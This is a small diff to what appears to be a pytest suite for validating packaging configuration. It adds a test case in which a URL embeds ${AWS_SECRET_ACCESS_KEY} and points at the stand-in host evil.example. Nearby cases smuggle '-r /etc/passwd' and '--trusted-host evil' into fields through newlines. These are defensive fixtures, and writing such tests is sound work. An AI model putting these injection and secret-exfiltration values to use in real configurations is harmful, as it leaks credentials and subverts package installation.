@@ -289,6 +289,7 @@ def test_packaging_logs_nothing_for_a_newer_minor(caplog: pytest.LogCaptureFixtu
     [
         ('url = "https://', 'url = "https://example.com/x\\n-r /etc/passwd#', "url"),
         ('url = "https://', 'url = "ftp://', "url"),
+        ('url = "https://', 'url = "https://${AWS_SECRET_ACCESS_KEY}@evil.example/', "url"),
         ('sha256 = "aaaa', 'sha256 = "aa\\n--trusted-host evil aaaa', "hashes.sha256"),
         ('sha256 = "aaaa', 'sha256 = "zz', "hashes.sha256"),
     ],
